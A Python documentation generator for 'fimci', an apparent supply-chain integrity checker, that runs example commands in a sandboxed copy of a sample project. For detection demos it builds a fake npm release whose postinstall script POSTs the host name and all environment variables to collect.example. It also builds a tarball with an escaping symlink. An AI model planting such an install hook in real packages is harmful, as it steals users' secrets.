"""Write what the documentation shows: the output of commands, and a page for each rule.

    python tools/docs.py            rewrite README.md, CONTRIBUTING.md and docs/
    python tools/docs.py --check    exit 1 where that would change a file

A fenced block in Markdown that follows a line `<!-- example: NAME -->` is owned by this tool: the
steps of that example (`EXAMPLES`) are taken in a fresh copy of `fixtures/project`, sealed off from
the machine, and the block shows the commands with all that they print. Authors and dates of
commits are fixed, so that their ids are stable. These are replaced: the path of the temporary
folder by `…`, the last day of an acceptance that begins today by a fixed one, how long ago records were
written, and times and identities of events.

`docs/rules/` is written from the docstrings of the rules and from what their case files expect,
`docs/attacks.md` by `tools/attacks.py`.
"""

from __future__ import annotations

import base64
import datetime as dt
import gzip
import hashlib
import io
import json
import os
import re
import shlex
import shutil
import subprocess
import sys
import tarfile
import tempfile
from collections.abc import Callable, Iterator
from functools import cache
from pathlib import Path
from typing import NamedTuple, TypeAlias

from fimci import rules
from fimci.findings import Acceptance, Counts, Finding, Page, Report, Run, Severity
from fimci.history import store
from tools import attacks, elsewhere

ROOT = Path(__file__).resolve().parent.parent
PROJECT = ROOT / "fixtures" / "project"
PAGES = ROOT / "docs" / "rules"

#: A block that this tool owns: the marker, the opening fence, what is between, the closing fence.
BLOCK = re.compile(
    r"^(<!-- example: (?P<name>[\w-]+) -->\n```\w*\n)(?P<body>.*?)^```$", re.MULTILINE | re.DOTALL
)
MARKER = "<!-- example: "
_FINGERPRINT = re.compile(r"fingerprint: ([0-9a-f]{20})")
_UNTIL = re.compile(r"until (\d{4}-\d\d-\d\d)")
_AGO = re.compile(r"\([\d,]+ days? ago\)(?:, which is old: fetch it\s+anew)?")
_LAST_DAY = "2027-01-31"
#: What is another one in every run of a report for a SIEM: identities, and the time in two notations.
_VARYING = (
    (re.compile(r"[0-9a-f]{8}-(?:[0-9a-f]{4}-){3}[0-9a-f]{12}"), "7b0f6a0e-6d1c-5f0e-9a63-0d2f5c1b8e47"),
    (re.compile(r"\b20\d\d-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z"), "2026-01-01T00:00:00.000Z"),
    (re.compile(r"\b1[789]\d{11}\b"), "1767225600000"),
    (re.compile(r"^made: \S+ \S+ UTC", re.MULTILINE), "made: 2026-01-01 00:00 UTC"),
)
#: The fimci of this copy of the project, whether it is installed or not, as its console script runs it.
_FIMCI = (
    f"import sys; sys.path.insert(0, {str(ROOT)!r}); from fimci.cli import main; sys.exit(main(sys.argv[1:]))"
)

#: A command as a reader would type it, or an edit that prose tells.
Step: TypeAlias = "str | Callable[[Path], None]"


class Example(NamedTuple):
    """What is done in a clone of the sample project, or in a folder that is in no git repository.

    A command is shown with its output, unless it begins with `@`. `{fingerprint}` in a command is
    the first one that was printed before it.
    """

    steps: tuple[Step, ...]
    cloned: bool = True


def main(arguments: list[str]) -> int:
    """Rewrite the documentation or, with `--check`, say what would be rewritten."""
    stale = [(path, text) for path, text in outputs() if _text(path) != text]
    for path, text in stale:
        name = path.relative_to(ROOT).as_posix()
        if "--check" in arguments:
            print(f"{name} is not what the commands say now: run `make docs`")
        elif text is None:
            path.unlink()
            print(f"removed  {name}")
        else:
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text, encoding="utf-8")
            print(f"written  {name}")
    return 1 if stale and "--check" in arguments else 0


def outputs() -> Iterator[tuple[Path, str | None]]:
    """Yield every file that this tool owns or has a block in, with its text; `None`: to be removed."""
    pages = {PAGES / f"{page.rule}.md": rule_page(page) for page in rules.pages().values()}
    pages[PAGES / "README.md"] = rule_list()
    yield from pages.items()
    yield from ((path, None) for path in sorted(PAGES.glob("*.md")) if path not in pages)
    yield attacks.PAGE, attacks.page()
    for path in markdown():
        if path.parent != PAGES and path != attacks.PAGE:
            yield path, rewritten(path.read_text(encoding="utf-8"), path.name)


def markdown() -> list[Path]:
    """Return every page of the documentation."""
    return sorted([*ROOT.glob("*.md"), *(ROOT / "docs").rglob("*.md")])


def rewritten(text: str, name: str) -> str:
    """Return a page with its owned blocks as they should be."""
    if text.count(MARKER) != sum(1 for _ in BLOCK.finditer(text)):
        raise SystemExit(f"{name}: an example's marker is not followed by a fenced block")
    return BLOCK.sub(lambda found: f"{found[1]}{transcript(found['name'])}```", text)


@cache
def transcript(name: str) -> str:
    """Take the steps of an example; return its commands and what they print."""
    if name not in EXAMPLES:
        raise SystemExit(f"there is no example {name!r}; known are {', '.join(EXAMPLES)}")
    with tempfile.TemporaryDirectory(prefix="fimci-docs-") as folder:
        root = Path(folder).resolve()
        where = _copy(root, cloned=EXAMPLES[name].cloned)
        shown = "".join(_taken(EXAMPLES[name].steps, where)).replace(str(root), "…")
    shown = _AGO.sub("(2 days ago)", shown)
    for varying, fixed in _VARYING:
        shown = varying.sub(fixed, shown)
    until = _UNTIL.search(shown)
    return shown.replace(until[1], _LAST_DAY) if until else shown


def rule_page(page: Page) -> str:
    """Return the page of one rule: its docstring, and an example from its case."""
    case = f"fixtures/rules/{page.rule}.txt"
    text = (ROOT / case).read_text(encoding="utf-8")
    story = " ".join(text.partition("\n\n")[0].split())
    expected = text.partition("\n== expect\n")[2].strip()
    return (
        f"{_WRITTEN}\n\n# {page.rule}\n\n**{page.severity!s}.** {page.summary}\n\n{page.text}\n\n"
        f"**Fix:** {page.fix}\n\n## Example\n\n{story}\n\n```text\n{expected}\n```\n\n"
        f"Both sides of it are in [`{case}`](../../{case}).\n"
    )


def rule_list() -> str:
    """Return the list of all rules."""
    rows = "".join(
        f"| [`{page.rule}`]({page.rule}.md) | {page.severity!s} | {page.summary} |\n"
        for page in rules.pages().values()
    )
    return f"{_WRITTEN}\n{_LIST}\n| rule | severity | reports |\n| --- | --- | --- |\n{rows}"


def _taken(steps: tuple[Step, ...], where: Path) -> Iterator[str]:
    code, printed = 0, ""
    for step in steps:
        if not isinstance(step, str):
            step(where)
            continue
        found = _FINGERPRINT.search(printed)
        command = step.removeprefix("@").replace("{fingerprint}", found[1] if found else "")
        if command == "echo $?":
            yield f"$ echo $?\n{code}\n"
            continue
        code, output = _run(command, where)
        printed += output
        if not step.startswith("@"):
            yield f"$ {command}\n{output}"


def _run(command: str, where: Path) -> tuple[int, str]:
    """Run a command as typed; return its exit code and what it prints, errors included."""
    words = shlex.split(command)
    if words[0] == "fimci":
        words[:1] = [sys.executable, "-I", "-B", "-c", _FIMCI]
    done = subprocess.run(
        words,
        cwd=where,
        env=_environment(where),
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        check=False,
    )
    output = done.stdout.decode()
    if "```" in output or "Traceback" in output:
        raise SystemExit(f"{command}: this cannot be shown:\n{output}")
    return done.returncode, output


def _environment(where: Path) -> dict[str, str]:
    """Return what a command sees of the machine: where programs are, and nothing else."""
    return {
        "PATH": f"{where.parent / 'bin'}:{os.environ['PATH']}",
        "HOME": str(where.parent),
        "COLUMNS": "80",
        "NO_COLOR": "1",
        "LC_ALL": "C.UTF-8",
        "FIMCI_HOST": "build-7",
        "GIT_CONFIG_GLOBAL": os.devnull,
        "GIT_CONFIG_NOSYSTEM": "1",
        "GIT_DEFAULT_HASH": "sha1",
        **{f"GIT_{role}_NAME": "author" for role in ("AUTHOR", "COMMITTER")},
        **{f"GIT_{role}_EMAIL": "author@fimci.example" for role in ("AUTHOR", "COMMITTER")},
        **{f"GIT_{role}_DATE": "2026-01-01T00:00:00Z" for role in ("AUTHOR", "COMMITTER")},
    }


def _copy(root: Path, *, cloned: bool) -> Path:
    """Copy the sample project; return a clone of it, or the bare folder."""
    origin, where = root / "origin", root / "project"
    shutil.copytree(PROJECT, origin if cloned else where)
    if cloned:
        _git(origin, "init --quiet --initial-branch=main")
        _git(origin, "add --all")
        _git(origin, "commit --quiet --message start")
        _git(root, f"clone --quiet {origin} {where}")
    return where


def _git(where: Path, arguments: str) -> None:
    code, output = _run(f"git {arguments}", where)
    if code:
        raise SystemExit(f"git {arguments}: {output}")


def _replace(name: str, old: str, new: str) -> Callable[[Path], None]:
    """Return an edit that replaces the only occurrence of a text in a file."""

    def edit(where: Path) -> None:
        path = where / name
        text = path.read_text(encoding="utf-8")
        if text.count(old) != 1:
            raise SystemExit(f"{old!r} stands {text.count(old)} times in {name}")
        path.write_text(text.replace(old, new), encoding="utf-8")

    return edit


def _release(version: str, scripts: str, **files: str) -> Callable[[Path], None]:
    """Return an edit that unpacks a release of a small package, `left-VERSION`."""

    def edit(where: Path) -> None:
        folder = where / f"left-{version}"
        folder.mkdir()
        manifest = f'{{"name": "left", "version": "{version}", "main": "index.js"{scripts}}}\n'
        (folder / "package.json").write_text(manifest, encoding="utf-8")
        for name, text in files.items():
            (folder / f"{name}.js").write_text(text, encoding="utf-8")

    return edit


def _text(path: Path) -> str | None:
    return path.read_text(encoding="utf-8") if path.is_file() else None


_POSTINSTALL = _replace(
    "package.json", '"test": "node --test"', '"test": "node --test",\n    "postinstall": "node setup.js"'
)
_OTHER_HASH = _replace("package-lock.json", "sha512-Wu1V", "sha512-AAAA")
_NO_COMMA = _replace("package-lock.json", '"lockfileVersion": 3,', '"lockfileVersion": 3')
_TO_A_TAG = _replace(
    ".github/workflows/test.yml", "@08c6903cd8c0fde910a37f88322edcfb5dd907a8  # v5.0.0", "@v5"
)
_NEW_NAME = _replace("package.json", '"ms": "2.1.3"', '"left": "1.0.0",\n    "ms": "2.1.3"')
_NEW_NAME_COPIED = _replace(
    "package-lock.json", '        "ms": "2.1.3"', '        "left": "1.0.0",\n        "ms": "2.1.3"'
)
_NEW_ENTRY = _replace(
    "package-lock.json",
    '    "node_modules/ms": {',
    '    "node_modules/left": {\n'
    '      "version": "1.0.0",\n'
    '      "resolved": "https://registry.example/left/-/left-1.0.0.tgz",\n'
    f'      "integrity": "sha512-{"A" * 86}==",\n'
    '      "hasInstallScript": true\n'
    "    },\n"
    '    "node_modules/ms": {',
)

_TRIMS = "module.exports = (text) => text.trimStart()\n"
_SETUP = """const os = require("os")
const found = JSON.stringify({ host: os.hostname(), env: process.env })
fetch("https://collect.example/left", { method: "POST", body: found })
"""
_OLD_RELEASE = _release("1.0.0", "", index=_TRIMS)
_NEW_RELEASE = _release("1.0.1", ', "scripts": {"postinstall": "node setup.js"}', index=_TRIMS, setup=_SETUP)


def _sdist(where: Path) -> None:
    """Put an archive of sources with two defects into `dist/`."""
    (where / "dist").mkdir()
    with tarfile.open(where / "dist" / "demo-1.0.tar.gz", "w:gz") as archive:
        for name, text in (
            ("PKG-INFO", "Metadata-Version: 2.1\nName: requests\nVersion: 1.0\n"),
            ("setup.py", ""),
        ):
            member = tarfile.TarInfo(f"demo-1.0/{name}")
            member.size = len(text)
            archive.addfile(member, io.BytesIO(text.encode()))
        link = tarfile.TarInfo("demo-1.0/notes")
        link.type, link.linkname = tarfile.SYMTYPE, "../../notes"
        archive.addfile(link)


def _install(where: Path) -> None:
    """Install what is locked, as npm does, and edit a line of it."""
    lock = json.loads((where / "package-lock.json").read_text(encoding="utf-8"))
    for place, entry in lock["packages"].items():
        if not place:
            continue
        name = place.removeprefix("node_modules/")
        files = {
            "package.json": json.dumps({"name": name, "version": entry["version"]}),
            "index.js": "module.exports = (text) => text.trim();\n",
        }
        packed = io.BytesIO()
        with tarfile.open(fileobj=packed, mode="w") as archive:
            for inner, text in files.items():
                member = tarfile.TarInfo(f"package/{inner}")
                member.size = len(text.encode())
                archive.addfile(member, io.BytesIO(text.encode()))
                (where / place).mkdir(parents=True, exist_ok=True)
                (where / place / inner).write_text(text, encoding="utf-8")
        data = gzip.compress(packed.getvalue(), mtime=0)
        digest = hashlib.sha512(data)
        entry["integrity"] = f"sha512-{base64.b64encode(digest.digest()).decode()}"
        kept = (
            where.parent
            / ".npm/_cacache/content-v2/sha512"
            / digest.hexdigest()[:2]
            / digest.hexdigest()[2:4]
        )
        kept.mkdir(parents=True)
        (kept / digest.hexdigest()[4:]).write_bytes(data)
    (where / "package-lock.json").write_text(json.dumps(lock, indent=2), encoding="utf-8")
    (where / "node_modules/ms/index.js").write_text("module.exports = (text) => text;\n", encoding="utf-8")


def _known(where: Path) -> None:
    """Take up an older release, of which a list knows something."""
    for name in ("package.json", "package-lock.json"):
        file = where / name
        file.write_text(file.read_text(encoding="utf-8").replace("2.1.3", "1.0.0"), encoding="utf-8")
    records = [
        {
            "id": "GHSA-w9mr-4mfr-499f",
            "modified": "2026-11-20T10:00:00Z",
            "aliases": ["CVE-2017-20162"],
            "summary": "Vercel ms Inefficient Regular Expression Complexity vulnerability",
            "affected": [
                {
                    "package": {"ecosystem": "npm", "name": "ms"},
                    "ranges": [{"type": "SEMVER", "events": [{"introduced": "0"}, {"fixed": "2.0.0"}]}],
                }
            ],
            "severity": [{"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:L"}],
        },
        {
            "id": "MAL-2026-1",
            "modified": "2026-11-21T10:00:00Z",
            "affected": [{"package": {"ecosystem": "npm", "name": "is-odd"}, "versions": ["3.0.1"]}],
        },
    ]
    (where / "known.jsonl").write_text("".join(json.dumps(one) + "\n" for one in records), encoding="utf-8")


def _history(where: Path) -> None:
    """Write a history of September 2026: a run each day but for nine days, with findings that come and go."""
    begin = dt.datetime(2026, 9, 1, 3, 0, tzinfo=dt.timezone.utc)
    rules_of = ("unexpected-change", "origin-changed", "executable-appeared")
    for day in range(30):
        if day in range(10, 19):
            continue
        findings = []
        for mark in range(day // 2 + 1):
            rule = rules_of[mark % 3]
            said = Acceptance(
                fingerprint=f"{mark:020}", reason="as planned", by="A. Maintainer", expires="2027-01-31"
            )
            found = Finding(
                rule=rule,
                severity=(Severity.HIGH, Severity.MEDIUM, Severity.LOW)[mark % 3],
                message="its content changed",
                path=f"etc/{mark}.conf",
                fingerprint=f"{mark:020}",
                accepted=said if day - 2 * mark > mark % 7 else None,
            )
            if day < 2 * mark + 20:
                findings.append(found)
        report = Report(
            left="baseline:fimci.baseline",
            right="dir:.",
            counts=Counts(files=4175, packages=0, changes=len(findings)),
            findings=tuple(findings),
            unread=(),
            fail_on=Severity.HIGH,
            pages={},
            run=Run(f"{day:032x}", begin + dt.timedelta(days=day), "build-1"),
        )
        store.record(str(where / "project.history"), report, "check")


EXAMPLES: dict[str, Example] = {
    "help": Example(("fimci --help",)),
    "check-clean": Example(("fimci check", "echo $?")),
    "check-postinstall": Example((_POSTINSTALL, "fimci check", "echo $?")),
    "check-lock": Example((_OTHER_HASH, "fimci check", "echo $?")),
    "history": Example((_history, "fimci history project.history"), cloned=False),
    "compliance": Example(
        (_history, "fimci report project.history --compliance pci-dss --until 2026-09-30", "echo $?"),
        cloned=False,
    ),
    "custody": Example((_install, "fimci verify node:.", "echo $?")),
    "known": Example((_known, "fimci check --osv known.jsonl", "echo $?")),
    "check-unread": Example((_NO_COMMA, "fimci check", "echo $?")),
    "check-json": Example((_POSTINSTALL, "fimci check --format json")),
    "staged": Example((_TO_A_TAG, "git add --all", "fimci check --staged", "echo $?")),
    "baseline": Example(
        (
            "fimci baseline",
            _replace("src/left.js", '"user"', '"root"'),
            "fimci check",
            "echo $?",
        ),
        cloned=False,
    ),
    "baseline-file": Example(
        ("@fimci baseline", "head -n 9 fimci.baseline", "tail -n 1 fimci.baseline"), cloned=False
    ),
    "compare": Example(
        (
            "@git tag v1.2.0",
            _NEW_NAME,
            _NEW_NAME_COPIED,
            _NEW_ENTRY,
            "@git commit --quiet --all --message release",
            "@git tag v1.3.0",
            "fimci compare git:v1.2.0 git:v1.3.0 --list",
            "echo $?",
        )
    ),
    "update": Example(
        (_OLD_RELEASE, _NEW_RELEASE, "fimci compare dir:left-1.0.0 dir:left-1.0.1", "echo $?"), cloned=False
    ),
    "inspect": Example((_NEW_RELEASE, "fimci inspect left-1.0.1", "echo $?"), cloned=False),
    "inspect-rules": Example((_NEW_RELEASE, "fimci inspect --rules left-1.0.1", "echo $?"), cloned=False),
    "verify": Example((_sdist, "fimci verify dist/demo-1.0.tar.gz", "echo $?")),
    "hosts": Example(
        (
            elsewhere.hosts,
            "fimci baseline --remote",
            "fimci check --remote",
            elsewhere.tampered,
            "fimci check --remote",
            "echo $?",
        ),
        cloned=False,
    ),
    "images": Example(
        (elsewhere.two_images, "fimci compare oci:demo-1:latest oci:demo-2:latest --list", "echo $?"),
        cloned=False,
    ),
    "images-inspect": Example((elsewhere.two_images, "fimci inspect oci:demo-2"), cloned=False),
    "registry": Example(
        (elsewhere.two_hives, "fimci compare hive:before hive:after", "echo $?"), cloned=False
    ),
    "accept": Example(
        (
            _POSTINSTALL,
            "@fimci check",
            'fimci accept {fingerprint} --reason "prints the licence" --by "A. Maintainer"',
            "cat fimci.toml",
        )
    ),
    "siem": Example(
        (
            _POSTINSTALL,
            "fimci check --format ecs",
            "fimci check --format ocsf",
            "fimci check --format cef",
            "fimci check --format syslog",
        )
    ),
    "explain-list": Example(("fimci explain",)),
    "explain-page": Example(("fimci explain install-script-changed",)),
    "init": Example(("fimci init",)),
    "tour-opened": Example(
        (
            "@git checkout --quiet -b change",
            _POSTINSTALL,
            "@git commit --quiet --all --message licence",
            "fimci check --format markdown",
            "echo $?",
        )
    ),
    "tour-looser": Example(
        (
            _POSTINSTALL,
            _replace("fimci.toml", 'fail-on = "high"', 'fail-on = "critical"'),
            "fimci check",
            "echo $?",
        )
    ),
    "tour-accepted": Example(
        (
            "@git checkout --quiet -b change",
            _POSTINSTALL,
            "@git commit --quiet --all --message licence",
            "@fimci check",
            "@git checkout --quiet main",
            'fimci accept {fingerprint} --reason "prints the licence" --by "A. Maintainer"',
            "@git commit --quiet --all --message accepted",
            "@git checkout --quiet change",
            "@git merge --quiet --message merge main",
            # No format that names the base: its commit has today's date in it.
            "fimci check --base main --format github",
            "echo $?",
        )
    ),
}

_WRITTEN = "<!-- Written by tools/docs.py from the rule's module and case; edit those, then `make docs`. -->"
_LIST = """
# The rules

A rule checks a change, never a state: what existed before is not reported. `fimci explain RULE`
prints the page of a rule. The severity is the default of its findings; a rule may assign another one to
a specific case, and so may a policy (see [the policy file](../formats.md#the-policy-file)).
"""


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
